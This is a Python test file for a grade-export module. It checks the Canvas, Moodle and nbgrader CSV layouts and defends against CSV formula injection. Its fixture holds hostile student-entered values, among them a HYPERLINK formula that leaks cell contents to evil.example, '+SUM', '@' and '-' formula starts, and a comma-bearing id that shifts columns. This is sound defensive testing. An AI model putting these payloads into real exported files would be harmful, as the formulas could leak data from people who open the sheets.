"""Grades for an LMS (``grader/batch/_export.py``): laid out as Canvas and Moodle import
them (``tests/batch/lms/``), a missing submission empty, not 0, a late one flagged. With
nbgrader's ``grades.csv`` (``grader/bridge/_csv_export.py``), no cell a student typed opens
as a formula or moves a column."""

import csv
import datetime
import os
import subprocess
import sys
from pathlib import Path

import pytest
from support.batch import with_alembic

from grader.batch._export import export_for_lms
from grader.bridge._csv_export import COLUMNS, SafeCsvExportPlugin

EXAMPLES = Path(__file__).parent / "lms"
DUE = datetime.datetime(2026, 11, 1, 12, 0)
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Ada, Lovelace")'
# student → (first, last, email, lms id, {assignment: (timestamp, {exercise: score})})
CLASS = {
    "ada": ("Ada", "Lovelace", "ada@example.org", "1234",
            {"a1": (DUE - datetime.timedelta(hours=1), {"x": 2.0, "y": 1.0}),
             "a2": (DUE - datetime.timedelta(hours=2), {"z": 3.0})}),
    "grace": ("Grace", "Hopper", "grace@example.org", None,
              {"a1": (DUE + datetime.timedelta(hours=5), {"x": 1.5, "y": 0.0})}),
    "linus": (None, None, None, None, {}),
    # Typed by a hostile student (an id from the gradebook is not checked again here):
    # a comma moved nbgrader's columns, and a blank stub then read as full marks.
    "ev,il": (HYPERLINK, "-1+2", "@evil.example", None,
              {"a1": (DUE - datetime.timedelta(hours=1), {"x": 0.0, "y": 0.0})}),
    "=1+1": ("+SUM(A1:A9)", None, None, None, {}),
}
HARMLESS = ("ada", "grace", "linus")
POINTS = {"a1": {"x": 2.0, "y": 3.0}, "a2": {"z": 4.0}}


@pytest.fixture(scope="module")
def exported(tmp_path_factory):
    from nbgrader.api import Gradebook

    folder = tmp_path_factory.mktemp("export")
    db_url = f"sqlite:///{folder / 'gradebook.db'}"
    with pytest.MonkeyPatch.context() as patch, Gradebook(with_alembic(patch, db_url)) as book:
        for assignment, cells in POINTS.items():
            book.update_or_create_assignment(assignment, duedate=DUE)
            book.update_or_create_notebook(assignment, assignment)
            for name, points in cells.items():
                book.update_or_create_grade_cell(name, assignment, assignment,
                                                 max_score=points, cell_type="code")
        for student, (first, last, email, lms, handed_in) in CLASS.items():
            book.update_or_create_student(student, first_name=first, last_name=last,
                                          email=email, lms_user_id=lms)
            for assignment, (timestamp, scores) in handed_in.items():
                book.add_submission(assignment, student, timestamp=timestamp)
                for name, score in scores.items():
                    grade = book.find_grade(name, assignment, assignment, student)
                    grade.auto_score = score
                book.db.commit()
        _grades_csv(book, folder / "out")
    export_for_lms(db_url, folder / "out")
    return folder / "out"


def _grades_csv(book, folder: Path) -> None:
    """grades.csv by our plugin; and, for the students whose cells nbgrader wrote right,
    by nbgrader's and ours, to compare."""
    from nbgrader.plugins import CsvExportPlugin

    folder.mkdir()
    SafeCsvExportPlugin(to=str(folder / "grades.csv")).export(book)
    for plugin, name in ((CsvExportPlugin, "nbgraders.csv"), (SafeCsvExportPlugin, "ours.csv")):
        plugin(to=str(folder / name), student=list(HARMLESS)).export(book)


def _rows(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as f:
        return list(csv.reader(f))


def test_canvas_file_has_canvas_columns_points_row_and_empty_missing(exported):
    ours, theirs = _rows(exported / "canvas.csv"), _rows(EXAMPLES / "canvas_gradebook_example.csv")
    assert ours[0][:5] == theirs[0][:5] and ours[0][5:] == ["a1", "a2"]
    assert ours[1][0] == theirs[1][0] and ours[1][5:] == ["5", "4"]
    rows = {row[3]: row for row in ours[2:]}  # by SIS Login ID: the nbgrader student id
    assert rows["ada"][:2] == ["Lovelace, Ada", "1234"] and rows["ada"][5:] == ["3", "3"]
    assert rows["grace"][5:] == ["1.5", ""]  # a2 not handed in: empty, not 0
    assert rows["linus"][0] == "linus" and rows["linus"][5:] == ["", ""]


def test_moodle_file_matches_students_by_username(exported):
    ours, theirs = _rows(exported / "moodle.csv"), _rows(EXAMPLES / "moodle_grades_example.csv")
    assert ours[0][:4] == theirs[0][:4] and ours[0][4:] == ["a1", "a2"]
    rows = {row[0]: row for row in ours[1:]}
    assert rows["ada"] == ["ada", "ada@example.org", "Ada", "Lovelace", "3", "3"]
    assert rows["grace"][4:] == ["1.5", ""] and rows["linus"][4:] == ["", ""]


def test_wide_file_has_a_row_per_student_and_a_column_per_exercise(exported):
    header, *rows = _rows(exported / "grades_wide.csv")
    assert header == ["student_id", "first_name", "last_name", "email", "a1:x", "a1:y",
                      "a1:raw", "a1", "a1:late", "a1:late_days", "a2:z", "a2:raw", "a2",
                      "a2:late", "a2:late_days", "raw_total", "total", "max"]
    by_id = {row[0]: dict(zip(header, row)) for row in rows}
    assert len(rows) == len(CLASS)
    assert by_id["ada"]["a1:x"] == "2" and by_id["ada"]["a1:late"] == "on time"
    assert by_id["grace"]["a1:late"] == "late" and by_id["grace"]["a2"] == ""
    assert by_id["grace"]["total"] == "1.5" and by_id["grace"]["max"] == "9"
    assert by_id["linus"]["a1"] == "" and by_id["linus"]["a1:late"] == ""


def _cells(paths):
    for path in paths:
        for row in _rows(path):
            yield from ((path.name, cell) for cell in row)


def test_no_cell_a_student_typed_opens_as_a_formula(exported):
    starts_a_formula = [(name, cell) for name, cell in _cells(exported.glob("*.csv"))
                        if cell.startswith(("=", "+", "-", "@"))]
    assert starts_a_formula == []
    for name in ("grades.csv", "grades_wide.csv", "moodle.csv"):
        assert "'" + HYPERLINK in {cell for _, cell in _cells([exported / name])}, name
    canvas = {row[3]: row for row in _rows(exported / "canvas.csv")[2:]}
    assert canvas["'=1+1"][0] == "'+SUM(A1:A9)"


def test_grades_csv_keeps_its_columns_when_an_id_holds_a_comma(exported):
    with (exported / "grades.csv").open(newline="", encoding="utf-8") as f:
        reader = csv.DictReader(f, restkey="shifted")
        rows = {(row["assignment"], row["student_id"]): row for row in reader}
    assert tuple(reader.fieldnames) == COLUMNS and len(rows) == len(POINTS) * len(CLASS)
    assert not [row for row in rows.values() if "shifted" in row or None in row.values()]
    stub = rows["a1", "ev,il"]  # a blank stub: its own score, not a neighbour's column
    assert (stub["score"], stub["raw_score"], stub["max_score"]) == ("0.0", "0.0", "5.0")
    assert (stub["first_name"], stub["last_name"]) == ("'" + HYPERLINK, "'-1+2")
    assert rows["a1", "ada"]["score"] == "3.0" and rows["a2", "ev,il"]["timestamp"] == ""


def test_grades_csv_is_nbgraders_byte_for_byte_where_nbgrader_wrote_it_right(exported):
    ours = (exported / "ours.csv").read_bytes()
    assert ours == (exported / "nbgraders.csv").read_bytes() and ours.count(b"\n") == 7


def test_nbgrader_export_writes_grades_csv_with_our_plugin(exported, tmp_path):
    """``nbgrader export``, configured by nbgrader_config.py, on the same gradebook."""
    from support import ROOT

    env = {**os.environ, "TENSOR_ANATOMY_INSTRUCTOR_DIR": str(exported.parent),
           "PATH": os.pathsep.join([os.path.dirname(sys.executable), os.environ["PATH"]])}
    env.pop("TENSOR_ANATOMY_DB_URL", None)
    command = [sys.executable, "-m", "nbgrader", "export", f"--to={tmp_path / 'g.csv'}"]
    done = subprocess.run(command, cwd=ROOT, env=env, capture_output=True, text=True,
                          timeout=300)
    assert done.returncode == 0, done.stderr[-2000:]
    assert "'" + HYPERLINK in {cell for _, cell in _cells([tmp_path / "g.csv"])}
    assert (tmp_path / "g.csv").read_bytes() == (exported / "grades.csv").read_bytes()
